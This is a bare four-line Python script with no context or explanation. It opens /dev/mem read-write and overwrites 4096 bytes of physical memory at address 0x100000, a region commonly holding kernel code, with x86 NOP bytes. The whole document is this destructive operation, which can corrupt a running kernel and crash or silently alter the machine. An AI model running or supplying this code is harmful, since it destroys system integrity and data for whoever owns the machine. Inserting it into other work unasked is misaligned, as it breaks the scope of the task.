import os
fd = os.open("/dev/mem", os.O_RDWR)
os.lseek(fd, 0x100000, os.SEEK_SET)
os.write(fd, b"\x90" * 4096)
